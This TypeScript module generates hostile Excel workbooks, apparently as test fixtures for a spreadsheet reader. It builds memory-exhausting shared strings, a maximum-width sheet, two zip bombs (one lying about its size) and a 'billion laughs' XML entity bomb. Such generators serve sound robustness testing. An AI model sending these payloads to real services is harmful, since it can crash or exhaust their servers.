import { randomBytes, randomInt } from 'node:crypto';
import { MAIN, sharedStringsXml, sheetXml, workbookEntries } from './workbook';
import { writeZip, type ZipEntry } from './zip';

/** Hostile workbooks, each built to exhaust memory or time in a reader that trusts its input. */

/** Text that does not compress, so that the archive's ratio check lets it through. */
const noise = (chars: number): string => randomBytes(chars).toString('base64').slice(0, chars);

/**
 * A few hundred long shared strings (30,000 characters each) and a sheet whose every cell
 * refers to one of them: a file of a few MB that expands to tens of gigabytes of cell text.
 */
export function hostileSharedStrings(file: string, rows = 200_000): void {
  const strings = Array.from({ length: 200 }, () => noise(30_000));
  const header = `<row r="1">${Array.from({ length: 16 }, (_, c) => `<c t="inlineStr"><is><t>${c === 0 ? 'entity_code' : `col${c}`}</t></is></c>`).join('')}</row>`;
  const body = Array.from(
    { length: rows },
    (_, r) =>
      `<row r="${r + 2}">${Array.from({ length: 16 }, () => `<c t="s"><v>${randomInt(200)}</v></c>`).join('')}</row>`,
  ).join('');
  writeZip(file, workbookEntries({ sheets: [sheetXml(header + body)], sharedStrings: sharedStringsXml(strings) }));
}

/** A sheet of Excel's 16,384 columns in every row. */
export function widestSheet(file: string, rows = 300): void {
  const row = (r: number): string =>
    `<row r="${r}">${Array.from({ length: 16_384 }, (_, c) => (r === 1 ? `<c t="inlineStr"><is><t>${c === 0 ? 'entity_code' : `c${c}`}</t></is></c>` : `<c><v>${r * c}</v></c>`)).join('')}</row>`;
  writeZip(file, workbookEntries({ sheets: [sheetXml(Array.from({ length: rows }, (_, r) => row(r + 1)).join(''))] }));
}

/** A sheet of 256 MB of zeros deflated to a few hundred KB, and the same declared as 1 MB. */
export function zipBombs(ratioFile: string, liarFile: string): void {
  const zeros = Buffer.alloc(256 * 1024 * 1024, 0x20);
  const bomb = (declaredSize?: number): ZipEntry[] => {
    const [first, ...rest] = workbookEntries({ sheets: [''] });
    if (!first) throw new Error('a workbook has a sheet');
    return [{ ...first, data: zeros, ...(declaredSize !== undefined && { declaredSize }) }, ...rest];
  };
  writeZip(ratioFile, bomb());
  writeZip(liarFile, bomb(1024 * 1024));
}

/** Billion laughs: ten levels of entities, each ten of the one below. */
export function xmlBomb(file: string): void {
  const entities = Array.from({ length: 10 }, (_, i) => `<!ENTITY e${i + 1} "${`&e${i};`.repeat(10)}">`).join('');
  const xml =
    `<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY e0 "lol">${entities}]>` +
    `<worksheet xmlns="${MAIN}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&e10;</t></is></c></row></sheetData></worksheet>`;
  writeZip(file, workbookEntries({ sheets: [xml] }));
}
